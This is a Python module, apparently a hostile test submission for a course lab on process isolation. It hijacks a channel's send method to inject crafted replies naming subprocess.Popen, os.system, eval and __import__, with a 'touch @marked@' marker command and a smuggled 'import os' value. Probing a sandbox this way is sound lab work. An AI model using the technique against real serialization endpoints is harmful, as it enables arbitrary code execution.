"""Names classes of the standard library in its answer, so that the grader calls them."""
# lab: 01

import json
import struct

from course.isolation.pipe import wire

PATHS = ["subprocess.Popen", "builtins.eval", "builtins.__import__", "os.system", "numpy.load", "builtins.type"]
NODES = [[["const", 1, path, ["touch @marked@"]]] for path in PATHS]
NODES += [[["class", path]] for path in PATHS] + [[["record", "a b; import os", ["__class__", "x"], [1, 2]]]]
NODES += [[["const", None, path, []]] for path in PATHS] + [[["__init__", 1, []]], [["opaque", 2, "f"]]]
TURN = [0]


def send(self, frame):
    TURN[0] += 1
    if TURN[0] < 3:
        return SENT(self, frame)
    nodes = NODES[TURN[0] % len(NODES)]
    body = {"is": "returned", "value": [0], "updates": [], "nodes": nodes}
    text = json.dumps(body).encode()
    return SENT(self, struct.pack(">IQ", len(text), 0) + text)


SENT = wire.Channel.send
wire.Channel.send = send


def attack(*args, **kwargs):
    return None


def __getattr__(name):
    if name.startswith("__"):
        raise AttributeError(name)
    return attack
